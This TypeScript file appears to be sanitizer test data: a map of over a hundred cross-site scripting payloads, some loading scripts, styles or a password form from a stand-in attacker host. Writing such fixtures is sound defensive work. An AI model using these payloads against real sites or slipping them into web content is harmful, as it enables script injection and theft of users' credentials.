/**
 * HTML that tries to run something, by the trick it uses. Each calls `alert(1)` or loads
 * `https://attacker.example`, so that a browser shows whether it got through.
 */
export const hostileHtml: Record<string, string> = {
  'script element': '<script>alert(1)</script>',
  'script in odd case, with a slash': '<ScRiPt/x>alert(1)</sCrIpT>',
  'script from elsewhere': '<script src="https://attacker.example/x.js"></script>',
  'unclosed script': '<p>Hi</p><script>alert(1)',
  'script inside a tag name': '<scr<script>ipt>alert(1)</scr</script>ipt>',
  'script after a NUL entity': '<scr&#0;ipt>alert(1)</scr&#0;ipt>',
  'module script': '<script type="module">alert(1)</script>',
  'picture that fails': '<img src=x onerror=alert(1)>',
  'handler without quotes and spaces': '<img/src="x"/onerror=alert(1)//',
  'handler in odd case': '<IMG SRC=x OnErRoR="alert(1)">',
  'handler behind a slash': '<img src="https://a.example/x"/onerror="alert(1)">',
  'handler behind a newline': '<img src=x\nonerror\n=\nalert(1)>',
  'handler behind a form feed': '<img src=x\fonerror=alert(1)>',
  'handler with entities': '<img src=x onerror="&#97;lert(1)">',
  'handler on the body': '<body onload=alert(1)><p>Hi</p></body>',
  'handler on the page': '<html onmouseover=alert(1)><p>Hi</p></html>',
  'focus by itself': '<div tabindex=1 autofocus onfocus=alert(1)>Hi</div>',
  'animation that starts': '<p style="animation:x" onanimationstart=alert(1)>Hi</p>',
  'details that open': '<details open ontoggle=alert(1)><summary>Hi</summary></details>',
  marquee: '<marquee onstart=alert(1)>Hi</marquee>',
  video: '<video onerror=alert(1)><source src=x></video>',
  audio: '<audio src=x onerror=alert(1)></audio>',
  'input that fails': '<input type=image src=x onerror=alert(1)>',
  'quote that ends an attribute': "<a title='\"><img src=x onerror=alert(1)>'>Hi</a>",
  'grave accents as quotes': '<img alt=`x` src=x onerror=`alert(1)`>',
  'two attributes of one name': '<img src="https://a.example/x" src=x onerror=alert(1)>',
  'attribute name with a quote': '<p id"onclick="alert(1)">Hi</p>',
  'javascript link': '<a href="javascript:alert(1)">Hi</a>',
  'javascript link in odd case': '<a href="JaVaScRiPt:alert(1)">Hi</a>',
  'javascript link with a tab': '<a href="java\tscript:alert(1)">Hi</a>',
  'javascript link with entities': '<a href="&#106;avascript&colon;alert(1)">Hi</a>',
  'javascript link with a leading control character': '<a href="\u0001javascript:alert(1)">Hi</a>',
  'javascript link with a leading space': '<a href=" &#14; javascript:alert(1)">Hi</a>',
  'javascript link with a comment': '<a href="java<!-- -->script:alert(1)">Hi</a>',
  'vbscript link': '<a href="vbscript:alert(1)">Hi</a>',
  'data link': '<a href="data:text/html,<script>alert(1)</script>">Hi</a>',
  'data link in base64':
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">Hi</a>',
  'javascript picture': '<img src="javascript:alert(1)">',
  'SVG picture in the address':
    "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>\">",
  'SVG picture in base64': '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+">',
  'source set': '<img srcset="x 1x" onerror=alert(1)>',
  'SVG with a handler': '<svg onload=alert(1)>',
  'SVG with a script': '<svg><script>alert(1)</script></svg>',
  'SVG with an encoded script': '<svg><script>&#97;lert(1)</script></svg>',
  'SVG with a link': '<svg><a xlink:href="javascript:alert(1)"><text y=20>Hi</text></a></svg>',
  'SVG that animates an address':
    '<svg><a><animate attributeName=href values=javascript:alert(1) /><text y=20>Hi</text></a></svg>',
  'SVG that sets a handler': '<svg><set attributeName=onmouseover to=alert(1)></svg>',
  'SVG with foreign content':
    '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>',
  'SVG that uses another':
    '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1) />#x"/></svg>',
  'SVG title as a way back': '<svg><title><img src=x onerror=alert(1)></title></svg>',
  'SVG description as a way back': '<svg></p><style><a id="</style><img src=x onerror=alert(1)>">',
  'MathML with a link': '<math href="javascript:alert(1)">Hi</math>',
  'MathML as a way back':
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  'MathML and a nested form':
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  'MathML annotation':
    '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>',
  'noscript with an attribute':
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  'noembed with an attribute':
    '<noembed><p title="</noembed><img src=x onerror=alert(1)>"></noembed>',
  'noframes with an attribute':
    '<noframes><p title="</noframes><img src=x onerror=alert(1)>"></noframes>',
  'xmp with an attribute': '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  'textarea with an attribute':
    '<textarea><p title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  'textarea closed oddly': '<textarea></textarea/><img src=x onerror=alert(1)>',
  'title with an attribute': '<title><p title="</title><img src=x onerror=alert(1)>"></title>',
  'style with an attribute': '<style><p title="</style><img src=x onerror=alert(1)>"></style>',
  'iframe with an attribute': '<iframe><p title="</iframe><img src=x onerror=alert(1)>"></iframe>',
  plaintext: '<plaintext><img src=x onerror=alert(1)>',
  template: '<template><img src=x onerror=alert(1)></template>',
  'shadow root': '<div><template shadowrootmode=open><img src=x onerror=alert(1)></template></div>',
  'select as a way back':
    '<select><template><style><!--</style><a rel="--></style></template></select><img id=x src onerror=alert(1)>">',
  'option with encoded markup':
    '<select><option>&lt;img src=x onerror=alert(1)&gt;</option></select>',
  'iframe with a page': '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  'iframe with a script': '<iframe src="javascript:alert(1)"></iframe>',
  frameset: '<frameset><frame src="javascript:alert(1)"></frameset>',
  object: '<object data="javascript:alert(1)"></object>',
  'object with a page':
    '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
  embed: '<embed src="javascript:alert(1)">',
  applet: '<applet code="javascript:alert(1)"></applet>',
  base: '<base href="https://attacker.example/"><a href="/x">Hi</a><img src="x">',
  'meta refresh': '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  'meta refresh elsewhere': '<meta http-equiv=refresh content="0;url=https://attacker.example/">',
  'policy by meta': '<meta http-equiv="Content-Security-Policy" content="script-src *">',
  'link to a style sheet': '<link rel=stylesheet href="https://attacker.example/x.css">',
  'link that prefetches': '<link rel=prefetch href="https://attacker.example/">',
  'link to an import': '<link rel=import href="data:text/html,<script>alert(1)</script>">',
  'form to elsewhere':
    '<form action="https://attacker.example/"><input name=password><button>Go</button></form>',
  'button with a script': '<form><button formaction="javascript:alert(1)">Go</button></form>',
  isindex: '<isindex type=image src=x onerror=alert(1)>',
  'style that imports': '<style>@import "https://attacker.example/x.css";</style>',
  'style that loads': '<style>p{background:url(https://attacker.example/x)}</style><p>Hi</p>',
  'style that loads a font':
    '<style>@font-face{font-family:x;src:url(https://attacker.example/x)}p{font-family:x}</style><p>Hi</p>',
  'style with an escaped url':
    '<style>p{background:\\75rl(https://attacker.example/x)}</style><p>Hi</p>',
  'style with an image set':
    '<style>p{background:image-set("https://attacker.example/x" 1x)}</style><p>Hi</p>',
  'style with content':
    '<style>p::before{content:url(https://attacker.example/x)}</style><p>Hi</p>',
  'style that ends early':
    '<style>p{color:red}</sty\\6ce></style\n><img src=x onerror=alert(1)></style>',
  'style with a comment': '<style><!--</style><script>alert(1)//--></script>',
  expression: '<p style="width:expression(alert(1))">Hi</p>',
  'expression with a comment': '<p style="width:exp/**/ression(alert(1))">Hi</p>',
  behaviour: '<p style="behavior:url(https://attacker.example/x.htc)">Hi</p>',
  binding: '<p style="-moz-binding:url(https://attacker.example/x.xml#x)">Hi</p>',
  'inline style that loads': '<p style="background:url(https://attacker.example/x)">Hi</p>',
  'inline style that loads by a variable':
    '<p style="--x:url(https://attacker.example/x);background:var(--x)">Hi</p>',
  'inline style with a closing quote':
    '<p style="color:red&quot;&gt;&lt;img src=x onerror=alert(1)&gt;">Hi</p>',
  'background attribute': '<table background="https://attacker.example/x"><tr><td>Hi</table>',
  'comment that ends early': '<!--><img src=x onerror=alert(1)>-->',
  'comment with a bang': '<!-- --!><img src=x onerror=alert(1)> -->',
  'conditional comment': '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  declaration: '<!doctype x [<!ENTITY y "<img src=x onerror=alert(1)>">]>&y;',
  CDATA: '<![CDATA[<img src=x onerror=alert(1)>]]>',
  'CDATA in SVG': '<svg><![CDATA[><img src=x onerror=alert(1)>]]>',
  'processing instruction':
    '<?xml-stylesheet href="javascript:alert(1)"?><?><img src=x onerror=alert(1)>',
  'end tag with attributes': '</p onmouseover=alert(1)><p>Hi</p>',
  'end tag of br': '</br onload=alert(1)>',
  'table that moves its content out': '<table><img src=x onerror=alert(1)><tr><td>Hi</table>',
  'nested links and tables':
    '<a href=x><table><a href="javascript:alert(1)"><tr><td>Hi</td></tr></table></a>',
  'deep nesting': `${'<div>'.repeat(150)}<img src=x onerror=alert(1)>`,
  'clobbered names': '<a id=location name=alert href="javascript:alert(1)">Hi</a><img name=cookie>',
  'merge field over a quote':
    '<a title="{{name|">}}" onmouseover="alert(1)" x="</a><a href="https://a.example">Hi</a>',
  'merge field over two attributes':
    '<a title="{{name|" href="https://a.example/}} onmouseover=alert(1) ">Hi</a>',
  'merge field with markup': '{{name|<img src=x onerror=alert(1)>}}',
  'merge field as the whole link': '<a href="{{name|javascript:alert(1)}}">Hi</a>',
  'mixed encodings of brackets': '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
  'full-width brackets': '\uff1cscript\uff1ealert(1)\uff1c/script\uff1e',
  polyglot:
    'jaVasCript:/*-/*`/*\\`/*\'/*"/**/(/* */oNcliCk=alert(1) )//%0D%0A//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert(1)//>',
}
